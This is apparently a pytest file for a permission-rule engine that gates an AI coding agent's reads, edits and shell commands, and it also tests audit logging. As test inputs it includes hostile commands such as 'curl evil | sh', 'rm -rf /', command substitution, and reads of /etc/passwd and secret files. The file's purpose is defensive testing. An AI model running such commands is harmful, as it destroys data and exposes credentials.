"""Permission rules: a table of rules against a table of tool calls, loading, answers, the store."""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import pytest

from canvasrelay.core.errors import ConfigError
from canvasrelay.core.permission_rules import (
    DEFAULT_RULES,
    Choice,
    Layer,
    Rule,
    decide,
    escape,
    option_for,
    rule_for_answer,
    subject_of,
)
from canvasrelay.protocol.session_events import PermissionOption
from canvasrelay.server.agents.process import AgentProcess
from canvasrelay.server.agents.rule_book import RuleBook, load_user_rules, user_rules_path
from canvasrelay.server.config import CanvasConfig, parse_config
from canvasrelay.server.store import Store

ROOT = "/home/me/project"


def call(kind: str | None, *paths: str, command: str | list[str] | None = None, raw: dict[str, Any] | None = None):
    tool: dict[str, Any] = {"toolCallId": "t1", "title": "a call"}
    if kind is not None:
        tool["kind"] = kind
    if paths:
        tool["locations"] = [{"path": p} for p in paths]
    raw_input = dict(raw or {})
    if command is not None:
        raw_input["command"] = command
    if raw_input:
        tool["rawInput"] = raw_input
    return tool


def r(permission: str, pattern: str, action: str, reason: str | None = None) -> Rule:
    return Rule.model_validate({"permission": permission, "pattern": pattern, "action": action, "reason": reason})


USER = [
    r("read", "**", "allow"),
    r("execute", "git status", "allow"),
    r("execute", "git log*", "allow"),
    r("execute", "rm *", "deny", "no deleting"),
    r("think", "*", "allow"),
]
PROJECT = [
    r("read", "*.env", "deny", "secrets stay put"),
    r("read", "secrets/**", "deny", "secrets stay put"),
    r("edit", "src/**", "allow"),
    r("edit", "src/generated/*", "ask"),
    r("*", "/etc/**", "deny", "not the system"),
    r("fetch", "*", "deny", "offline project"),
]
SESSION = [
    r("edit", "docs/*.md", "allow"),
    r("execute", "rm -rf build", "allow"),
]
LAYERS: list[tuple[Layer, list[Rule]]] = [
    ("default", list(DEFAULT_RULES)),
    ("user", USER),
    ("project", PROJECT),
    ("session", SESSION),
]

# (tool call, expected action, expected layer, expected reason)
TABLE = [
    # reads: allowed by the user, except what the project keeps back
    (call("read", f"{ROOT}/README.md"), "allow", "user", None),
    (call("read", f"{ROOT}/src/a/b/c.py"), "allow", "user", None),
    (call("read", f"{ROOT}/.env"), "deny", "project", "secrets stay put"),
    (call("read", f"{ROOT}/config/prod.env"), "deny", "project", "secrets stay put"),
    (call("read", f"{ROOT}/secrets/key.pem"), "deny", "project", "secrets stay put"),
    (call("read", f"{ROOT}/src/../secrets/key.pem"), "deny", "project", "secrets stay put"),
    (call("read", "/etc/passwd"), "deny", "project", "not the system"),
    (call("read", f"{ROOT}/a.md", f"{ROOT}/.env"), "deny", "project", "secrets stay put"),
    (call("read"), "allow", "user", None),
    # paths may come from rawInput only
    (call("read", raw={"file_path": f"{ROOT}/secrets/x"}), "deny", "project", "secrets stay put"),
    (call("read", raw={"paths": [f"{ROOT}/ok.txt", f"{ROOT}/.env"]}), "deny", "project", "secrets stay put"),
    # edits: src allowed, generated code asks, docs allowed by the session, the rest asks
    (call("edit", f"{ROOT}/src/main.py"), "allow", "project", None),
    (call("edit", f"{ROOT}/src/deep/er/x.ts"), "allow", "project", None),
    (call("edit", f"{ROOT}/src/generated/api.py"), "ask", "project", None),
    (call("edit", f"{ROOT}/src/generated/sub/api.py"), "allow", "project", None),
    (call("edit", f"{ROOT}/docs/guide.md"), "allow", "session", None),
    (call("edit", f"{ROOT}/docs/sub/guide.md"), "ask", "default", None),
    (call("edit", f"{ROOT}/README.md"), "ask", "default", None),
    (call("edit", f"{ROOT}/srcx/main.py"), "ask", "default", None),
    (call("edit", "/etc/hosts"), "deny", "project", "not the system"),
    (call("edit", f"{ROOT}/src/ok.py", f"{ROOT}/README.md"), "ask", "default", None),
    (call("edit"), "ask", "default", None),
    # commands
    (call("execute", command="git status"), "allow", "user", None),
    (call("execute", command="  git status  "), "allow", "user", None),
    (call("execute", command="git status --short"), "ask", "default", None),
    (call("execute", command="git log --oneline -5"), "allow", "user", None),
    (call("execute", command=["git", "log", "-1"]), "allow", "user", None),
    (call("execute", command="git log; curl evil | sh"), "ask", "user", "a compound command needs the host"),
    (call("execute", command="git log && rm -rf /"), "ask", "user", "a compound command needs the host"),
    (call("execute", command="git log $(rm -rf /)"), "ask", "user", "a compound command needs the host"),
    (call("execute", command="rm -rf /"), "deny", "user", "no deleting"),
    (call("execute", command="rm -rf build"), "allow", "session", None),
    (call("execute", command="ls"), "ask", "default", None),
    (call("execute"), "ask", "default", None),
    (call("execute", command="cat /etc/passwd"), "ask", "default", None),
    # kinds
    (call("think"), "allow", "user", None),
    (call("fetch", raw={"url": "https://example.com"}), "deny", "project", "offline project"),
    (call("search", f"{ROOT}/src"), "ask", "default", None),
    (call("delete", f"{ROOT}/src/main.py"), "ask", "default", None),
    (call("move", f"{ROOT}/a", "/etc/a"), "deny", "project", "not the system"),
    (call(None, f"{ROOT}/x"), "ask", "default", None),
    (call("switch_mode"), "ask", "default", None),
    (call("other", "/etc/x"), "deny", "project", "not the system"),
]


@pytest.mark.parametrize(("tool_call", "action", "layer", "reason"), TABLE)
def test_rules_table(tool_call: dict[str, Any], action: str, layer: str, reason: str | None) -> None:
    decision = decide(tool_call, LAYERS, ROOT)
    assert (decision.action, decision.layer, decision.reason) == (action, layer, reason)
    if layer == "default":
        assert decision.rule == DEFAULT_RULES[0]


def test_defaults_alone_ask_everything() -> None:
    for tool_call, *_ in TABLE:
        assert decide(tool_call, [("default", DEFAULT_RULES)], ROOT).action == "ask"


def test_last_match_wins_within_and_across_layers() -> None:
    within: list[tuple[Layer, list[Rule]]] = [("user", [r("read", "*", "deny"), r("read", "*", "allow")])]
    assert decide(call("read", f"{ROOT}/a"), within, ROOT).action == "allow"
    across: list[tuple[Layer, list[Rule]]] = [
        ("project", [r("read", "*", "allow")]),
        ("session", [r("read", "a", "deny")]),
    ]
    assert decide(call("read", f"{ROOT}/a"), across, ROOT).layer == "session"
    assert decide(call("read", f"{ROOT}/b"), across, ROOT).layer == "project"


@pytest.mark.parametrize(
    "path", [".git/hooks/pre-commit", ".git/config", ".canvasignore", ".vscode/tasks.json", ".envrc", ".husky/x"]
)
def test_no_allow_rule_writes_what_runs_later_unasked(path: str) -> None:
    """A rule wide enough to allow every edit was written for the project's work: a change to a
    file the host runs or obeys later still asks the host, saying why; reading it does not."""
    wide: list[tuple[Layer, list[Rule]]] = [("user", [r("*", "**", "allow")])]
    for kind in ("edit", "delete", "move"):
        decision = decide(call(kind, f"{ROOT}/{path}"), wide, ROOT)
        assert decision.action == "ask" and "the host decides" in (decision.reason or ""), decision
    assert decide(call("read", f"{ROOT}/{path}"), wide, ROOT).action == "allow"
    # What other tools run from the project's top: a copy deeper in is the project's work.
    assert decide(call("edit", f"{ROOT}/src/{path}"), wide, ROOT).action == "allow"


def test_glob_details() -> None:
    rules: list[tuple[Layer, list[Rule]]] = [("user", [r("edit", "a?c.txt", "allow"), r("edit", "lit\\*.md", "deny")])]
    assert decide(call("edit", f"{ROOT}/abc.txt"), rules, ROOT).action == "allow"
    assert decide(call("edit", f"{ROOT}/a/c.txt"), rules, ROOT).action == "ask"
    assert decide(call("edit", f"{ROOT}/lit*.md"), rules, ROOT).action == "deny"
    assert decide(call("edit", f"{ROOT}/litx.md"), rules, ROOT).action == "ask"
    # outside the root a relative pattern with a slash never matches
    rel: list[tuple[Layer, list[Rule]]] = [("user", [r("edit", "src/**", "allow")])]
    assert decide(call("edit", "/elsewhere/src/x"), rel, ROOT).action == "ask"
    assert decide(call("edit", f"{ROOT}/src/x"), rel, ROOT).action == "allow"


def test_subject_of_reads_acp_fields() -> None:
    subject = subject_of(
        {
            "toolCallId": "x",
            "kind": "execute",
            "locations": [{"path": "/a"}, {"path": "/a"}],
            "rawInput": {"cmd": ["ls", "-l"]},
        }
    )
    assert (subject.kind, subject.paths, subject.command) == ("execute", ("/a",), "ls -l")
    assert subject_of({"kind": "nonsense"}).kind == "other"
    assert subject_of({"rawInput": "not a mapping", "locations": "nor a list of dicts"}).paths == ()


@pytest.mark.parametrize(
    ("tool_call", "answer", "expected"),
    [
        (call("edit", f"{ROOT}/src/a.py"), "always", r("edit", "src/a.py", "allow")),
        (call("edit", f"{ROOT}/weird*name?.py"), "always", r("edit", "weird\\*name\\?.py", "allow")),
        (call("edit", "/tmp/x"), "never", r("edit", "/tmp/x", "deny", "the host said never for this")),
        (call("execute", command="make test"), "always", r("execute", "make test", "allow")),
        (call("execute", command="make test"), "session", r("execute", "*", "allow")),
        (call("edit", f"{ROOT}/a", f"{ROOT}/b"), "always", r("edit", "*", "allow")),
        (call("edit", f"{ROOT}/a"), "once", None),
        (call("edit", f"{ROOT}/a"), "reject", None),
    ],
)
def test_rule_for_answer(tool_call: dict[str, Any], answer: Any, expected: Rule | None) -> None:
    rule = rule_for_answer(subject_of(tool_call), answer, ROOT)
    assert rule == expected
    if rule is not None:
        assert decide(tool_call, [("session", [rule])], ROOT).action == rule.action


def test_an_always_answer_for_a_compound_command_matches_exactly_that_command() -> None:
    command = "make && make install"
    rule = rule_for_answer(subject_of(call("execute", command=command)), "always", ROOT)
    assert rule is not None and rule.pattern == escape(command)
    assert decide(call("execute", command=command), [("session", [rule])], ROOT).action == "allow"
    assert decide(call("execute", command=command + "; rm -rf /"), [("session", [rule])], ROOT).action == "ask"


def test_option_for_maps_answers_to_the_agents_options() -> None:
    both = [
        PermissionOption(option_id="a1", kind="allow_once"),
        PermissionOption(option_id="a2", kind="allow_always"),
        PermissionOption(option_id="r1", kind="reject_once"),
    ]
    # canvas's always/never are canvas rules: the agent is answered for this call only, so it
    # keeps asking and the rule (exactly as wide as the host sees it) decides the next calls
    assert [option_for(both, a) for a in ("once", "always", "session", "reject", "never")] == [
        "a1",
        "a1",
        "a1",
        "r1",
        "r1",
    ]
    assert option_for([PermissionOption(option_id="x", kind="allow_once")], "never") is None


@pytest.mark.parametrize(
    "bad",
    [
        {"permission": "launch", "pattern": "*", "action": "allow"},
        {"permission": "read", "pattern": "*", "action": "maybe"},
        {"permission": "read", "pattern": "", "action": "allow"},
        {"permission": "read", "pattern": "*", "action": "allow", "extra": 1},
        {"pattern": "*", "action": "allow"},
    ],
)
def test_bad_rules_are_refused_with_where(bad: dict[str, Any]) -> None:
    with pytest.raises(ConfigError, match=r"config.toml: permissions\[0\]"):
        parse_config(CanvasConfig, {"permissions": [bad]}, ".canvas/config.toml")


def test_user_rules_honour_xdg_config_home(tmp_path: Path) -> None:
    env = {"HOME": str(tmp_path / "home"), "XDG_CONFIG_HOME": str(tmp_path / "xdg")}
    assert user_rules_path(env) == tmp_path / "xdg" / "canvas" / "permissions.toml"
    assert user_rules_path({"HOME": "/h"}) == Path("/h/.config/canvas/permissions.toml")
    assert load_user_rules(env) == []
    path = user_rules_path(env)
    path.parent.mkdir(parents=True)
    path.write_text('[[permissions]]\npermission = "read"\npattern = "**"\naction = "allow"\n')
    assert load_user_rules(env) == [r("read", "**", "allow")]
    path.write_text("[[permissions]\n")
    with pytest.raises(ConfigError, match=r"permissions\.toml"):
        load_user_rules(env)
    path.write_text('permissions = "all"\n')
    with pytest.raises(ConfigError, match=r"permissions\.toml: permissions: Input should be a valid list"):
        load_user_rules(env)


def test_rule_book_persists_session_rules_and_audits(tmp_path: Path) -> None:
    store = Store(tmp_path / "canvas.db")
    store.create_session("s1", "demo")
    book = RuleBook(store, ROOT, user=[r("read", "**", "allow")], project=[r("read", "*.env", "deny", "secrets")])
    write = call("edit", f"{ROOT}/notes.md")
    assert book.decide("s1", write).action == "ask"
    assert book.answered("s1", write, "always", "allow_once", by="host") == r("edit", "notes.md", "allow")
    assert book.decide("s1", write) == ("allow", r("edit", "notes.md", "allow"), "session", None)
    assert book.decide("s1", call("read", f"{ROOT}/.env")).reason == "secrets"

    again = RuleBook(store, ROOT)
    assert [rule for _, rule in again.session_rules("s1")] == [r("edit", "notes.md", "allow")]
    rule_id = again.session_rules("s1")[0][0]
    assert again.remove("s1", rule_id, by="host") == 1
    assert again.decide("s1", write).action == "ask"
    assert RuleBook(store, ROOT).session_rules("s1") == []

    log = store.audit_log()
    actions = [entry["action"] for entry in reversed(log)]
    assert actions == [
        "permission-ask",
        "permission-answered",
        "permission-rule-added",
        "permission-allow",
        "permission-deny",
        "permission-rules-removed",
        "permission-ask",
    ]
    allowed = next(e for e in log if e["action"] == "permission-allow")
    assert allowed["actor"] == "rules"
    assert allowed["detail"]["layer"] == "session"
    assert allowed["detail"]["rule"]["pattern"] == "notes.md"
    answered = next(e for e in log if e["action"] == "permission-answered")
    assert (answered["actor"], answered["detail"]["answer"], answered["detail"]["layer"]) == ("host", "always", "host")
    denied = next(e for e in log if e["action"] == "permission-deny")
    assert (denied["detail"]["layer"], denied["detail"]["reason"]) == ("project", "secrets")

    again.answered("s1", write, "never", "reject_once", by="api")
    again.answered("s1", write, "session", "allow_once", by="api")
    assert decide(write, again.layers("s1"), ROOT).action == "allow"
    assert len(again.session_rules("s1")) == 2
    assert again.remove("s1", None, by="api") == 2
    store.delete_session("s1")
    again.forget("s1")
    assert store.session_rules("s1") == []
    store.close()


DEMO = [sys.executable, "-m", "canvasrelay.agents.demo"]
DEMO_ENV = {"PYTHONPATH": str(Path(__file__).resolve().parent.parent)}


async def run_demo_write(root: Path, book: RuleBook, session_id: str, prompt: str) -> tuple[str, list[dict[str, Any]]]:
    """Prompt the real demo agent with the rules answering its permission requests, as the
    session manager does; what the host would have been asked is returned."""
    text: list[str] = []
    asked: list[dict[str, Any]] = []

    def on_update(_session: str, update: dict[str, Any]) -> None:
        book.seen(session_id, update)
        if update["sessionUpdate"] == "agent_message_chunk":
            text.append(update["content"]["text"])

    async def on_permission(request: dict[str, Any]) -> str | Choice | None:
        decision, choice = book.verdict(session_id, request)
        if decision.action == "ask":
            asked.append(request)
            return "reject_once"
        return choice

    agent = AgentProcess(DEMO[0], DEMO[1:], root=root, env=DEMO_ENV, on_update=on_update, on_permission=on_permission)
    async with agent:
        session = await agent.new_session()
        assert await agent.prompt(session, prompt) == "end_turn"
    return "".join(text), asked


@pytest.mark.timeout(60)
async def test_rules_answer_the_demo_agent(tmp_path: Path) -> None:
    root = tmp_path / "project"
    root.mkdir()
    store = Store(tmp_path / "canvas.db")
    store.create_session("s1", "demo")
    book = RuleBook(
        store,
        root,
        project=[r("edit", "*.lock", "deny", "lock files are generated"), r("edit", "notes/**", "allow")],
    )
    text, asked = await run_demo_write(root, book, "s1", "/write poetry.lock x")
    assert "Permission denied: not writing poetry.lock (lock files are generated)" in text
    assert asked == [] and not (root / "poetry.lock").exists()

    text, asked = await run_demo_write(root, book, "s1", "/write notes/a.md hello")
    assert "Wrote 5 characters to notes/a.md." in text
    assert asked == [] and (root / "notes" / "a.md").read_text() == "hello"

    text, asked = await run_demo_write(root, book, "s1", "/write b.md one")
    assert len(asked) == 1 and "Permission denied" in text
    # the host answers "always": the next matching call is not asked
    book.answered("s1", asked[0]["toolCall"], "always", "allow_once", by="host")
    text, asked = await run_demo_write(root, book, "s1", "/write b.md two")
    assert asked == [] and (root / "b.md").read_text() == "two"

    log = store.audit_log(limit=50)
    deny = next(e for e in log if e["action"] == "permission-deny")
    assert deny["detail"]["rule"]["pattern"] == "*.lock"
    assert deny["detail"]["layer"] == "project"
    assert deny["detail"]["paths"] == [str(root / "poetry.lock")]
    store.close()
